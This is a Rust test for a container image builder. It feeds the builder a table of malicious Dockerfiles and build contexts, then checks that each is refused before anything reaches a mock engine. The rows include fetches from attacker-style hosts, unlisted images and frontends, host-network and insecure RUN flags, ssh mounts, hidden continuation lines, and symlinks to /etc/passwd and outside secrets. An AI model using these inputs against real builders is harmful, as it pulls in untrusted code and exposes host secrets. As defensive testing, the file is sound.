//! Dockerfiles and their contexts, by the builder, in front of an engine that notes what it is sent:
//! nothing of what is refused gets there.

use std::{
    collections::BTreeSet,
    fs,
    io::{BufRead as _, BufReader, Write as _},
    os::unix::{fs::symlink, net::UnixListener},
    path::Path,
    sync::{Arc, Mutex},
    thread,
};

use pitlane_builder::{BuildRequest, Builder, Host};
use pitlane_release::Platform;

use super::{Answer, Table};

type Make = fn(&Path) -> String;

/// What it is, what makes the context and gives the Dockerfile, the words.
const ROWS: &[(&str, Make, &str)] = &[
    ("nothing", |_| String::new(), ""),
    ("arguments alone", |_| "ARG X=1\n".to_owned(), ""),
    ("an image nobody listed", |_| "FROM evil/base:1\n".to_owned(), ""),
    ("an image by an argument", |_| "ARG B=evil/base:1\nFROM ${B}\n".to_owned(), ""),
    ("an image nobody knows before", |_| "FROM ${B:-base:1}\n".to_owned(), ""),
    ("a front end", |_| "# syntax=evil/front\nFROM base:1\n".to_owned(), ""),
    ("a front end below a note", |_| "# note\n# syntax = evil/front\nFROM base:1\n".to_owned(), ""),
    ("another escape", |_| "# escape=x\nFROM base:1\n".to_owned(), ""),
    (
        "a line hidden by an escape",
        |_| "FROM base:1\nRUN a \\\\\nADD http://evil/x /\n".to_owned(),
        "",
    ),
    (
        "a line hidden by a note",
        |_| "FROM base:1\nRUN a \\\n # b\nADD http://evil/x /\n".to_owned(),
        "",
    ),
    ("a document in a line", |_| "FROM base:1\nRUN <<EOF\nid\nEOF\n".to_owned(), ""),
    ("something in other builds", |_| "FROM base:1\nONBUILD RUN id\n".to_owned(), ""),
    ("an instruction nobody knows", |_| "FROM base:1\nINCLUDE /etc/passwd\n".to_owned(), ""),
    ("an address", |_| "FROM base:1\nADD https://evil.example/x /x\n".to_owned(), ""),
    ("a repository", |_| "FROM base:1\nADD git@evil.example:x.git /x\n".to_owned(), ""),
    ("files of an image nobody listed", |_| "FROM base:1\nCOPY --from=evil:1 / /\n".to_owned(), ""),
    ("the host's network", |_| "FROM base:1\nRUN --network=host id\n".to_owned(), ""),
    ("rights of the host", |_| "FROM base:1\nRUN --security=insecure id\n".to_owned(), ""),
    ("the keys of ssh", |_| "FROM base:1\nRUN --mount=type=ssh id\n".to_owned(), ""),
    ("a shared cache", |_| "FROM base:1\nRUN --mount=type=cache,target=/c id\n".to_owned(), ""),
    ("another platform", |_| "FROM --platform=linux/s390x base:1\n".to_owned(), ""),
    ("two thousand steps", |_| format!("FROM base:1\n{}", "USER x\n".repeat(2001)), ""),
    ("half a megabyte", |_| format!("FROM base:1\n#{}\n", "x".repeat(500_000)), ""),
    (
        "a link out of the context",
        |context| {
            symlink("/etc/passwd", context.join("stolen")).unwrap();
            "FROM base:1\nCOPY stolen /\n".to_owned()
        },
        "",
    ),
    (
        "a link above the context",
        |context| {
            symlink("../../secret", context.join("stolen")).unwrap();
            "FROM base:1\nCOPY stolen /\n".to_owned()
        },
        "",
    ),
    (
        "a socket in the context",
        |context| {
            drop(UnixListener::bind(context.join("socket")).unwrap());
            "FROM base:1\nCOPY . /\n".to_owned()
        },
        "",
    ),
    (
        "folders in folders",
        |context| {
            fs::create_dir_all(context.join("d/".repeat(70))).unwrap();
            "FROM base:1\nCOPY . /\n".to_owned()
        },
        "",
    ),
    ("an image that is listed and not there", |_| "FROM base:1\nUSER x\n".to_owned(), ""),
];

/// An engine that has nothing, on a socket; it notes what it is asked.
fn engine(socket: &Path) -> Arc<Mutex<Vec<String>>> {
    let asked: Arc<Mutex<Vec<String>>> = Arc::default();
    let (listener, notes) = (UnixListener::bind(socket).unwrap(), Arc::clone(&asked));
    thread::spawn(move || {
        for stream in listener.incoming().flatten() {
            let notes = Arc::clone(&notes);
            thread::spawn(move || {
                let mut lines = BufReader::new(&stream);
                loop {
                    let mut first = String::new();
                    if !lines.read_line(&mut first).is_ok_and(|bytes| bytes > 0) {
                        return;
                    }
                    let mut line = String::new();
                    while lines.read_line(&mut line).is_ok_and(|bytes| bytes > 2) {
                        line.clear();
                    }
                    let words: Vec<&str> = first.split(' ').collect();
                    notes.lock().unwrap().push(format!("{} {}", words[0], words[1]));
                    let (status, body) = match words[1].contains("/version") {
                        true => (
                            "200 OK",
                            "{\"Version\":\"27\",\"ApiVersion\":\"1.47\",\"Arch\":\"amd64\"}",
                        ),
                        false => ("404 Not Found", "{\"message\":\"no such image\"}"),
                    };
                    let length = body.len();
                    let written = write!(
                        &stream,
                        "HTTP/1.1 {status}\r\nContent-Type: application/json\r\n\
                         Content-Length: {length}\r\n\r\n{body}"
                    );
                    if written.is_err() {
                        return;
                    }
                }
            });
        }
    });
    asked
}

#[tokio::test]
async fn dockerfiles() {
    let dir = tempfile::tempdir().unwrap();
    let socket = dir.path().join("engine.sock");
    let asked = engine(&socket);
    let builder = Builder::connect(&Host::Unix(socket)).await.unwrap();
    let mut table = Table::default();
    for (number, (what, make, says)) in ROWS.iter().enumerate() {
        let context = dir.path().join(number.to_string());
        let blobs = dir.path().join(format!("{number}-blobs"));
        fs::create_dir_all(&context).unwrap();
        fs::create_dir_all(&blobs).unwrap();
        let text = make(&context);
        fs::write(context.join("Dockerfile"), text).unwrap();
        let mut request = BuildRequest::new(context, Platform::LinuxAmd64, blobs.clone());
        request.bases = BTreeSet::from(["base:1".to_owned()]);
        asked.lock().unwrap().clear();
        let error = builder.build(&request, |event| panic!("{what}: {event:?}")).await.unwrap_err();
        let said = error.to_string().replace(dir.path().to_str().unwrap(), "DIR");
        table.row(what, &Answer::new("", said), "", says);
        // At most it was asked for the base; nothing was sent, nothing was written.
        let sent: Vec<String> = asked.lock().unwrap().drain(..).collect();
        if sent.iter().any(|line| !line.starts_with("GET ")) {
            table.note(what, &format!("the engine was asked {sent:?}"));
        }
        if fs::read_dir(&blobs).unwrap().next().is_some() {
            table.note(what, "blobs were written");
        }
    }
    table.end(ROWS.len());
}
